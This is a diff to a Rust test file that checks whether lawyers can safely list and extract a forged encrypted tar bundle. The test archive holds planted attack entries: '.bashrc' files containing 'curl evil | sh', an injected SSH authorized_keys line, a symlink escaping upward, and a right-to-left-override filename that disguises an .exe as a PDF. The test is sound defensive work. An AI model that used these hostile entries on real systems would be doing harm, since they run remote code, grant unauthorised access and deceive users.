@@ -346,7 +346,7 @@ fn three_watchers_one_killed_one_frozen_still_release_to_both_lawyers() {
         assert_eq!(page.status(), 200);
         let html = page.text().unwrap();
         assert!(html.contains("as often as needed"), "{html}");
-        assert!(html.contains("tar -tvf bundle.tar"), "{html}");
+        assert!(html.contains("LC_ALL=C tar -tvf bundle.tar"), "{html}");
     }
     let downloaded = http.post(link).send().unwrap();
     assert_eq!(downloaded.status(), 200);
@@ -1155,6 +1155,7 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
         file(".bashrc", b"curl evil | sh\n");
         file("../.bashrc", b"curl evil | sh\n");
         file(".ssh/authorized_keys", b"ssh-ed25519 AAAA forger\n");
+        file("report\u{202E}fdp.exe", b"MZ");
         let mut link = tar::Header::new_gnu();
         link.set_entry_type(tar::EntryType::Symlink);
         link.set_path("up").unwrap();
@@ -1184,7 +1185,7 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
     let before: Vec<_> = walk(&home);
     let script = format!(
         "set -e; cd {home}; mkdir case-opened; cd case-opened; \
-         age -d -i {key} {forged} > bundle.tar; tar -tvf bundle.tar; \
+         age -d -i {key} {forged} > bundle.tar; LC_ALL=C tar -tvf bundle.tar; \
          tar -xkf bundle.tar --no-same-owner --no-same-permissions || true",
         home = home.display(),
         key = dilnoza_key.display(),
@@ -1198,6 +1199,13 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
     assert!(ran.status.success(), "{}", stderr(&ran));
     // The listing shows what a lawyer is told to look for: names with dots, a link.
     assert!(stdout(&ran).contains("up -> .."), "{}", stdout(&ran));
+    // With LC_ALL=C the right-to-left override shows as a code, not as "reportexe.pdf".
+    assert!(!stdout(&ran).contains('\u{202E}'), "{}", stdout(&ran));
+    assert!(
+        stdout(&ran).contains("report\\342\\200\\256fdp.exe"),
+        "{}",
+        stdout(&ran)
+    );
     assert_eq!(
         std::fs::read(home.join(".bashrc")).unwrap(),
         b"# the lawyer's own\n",
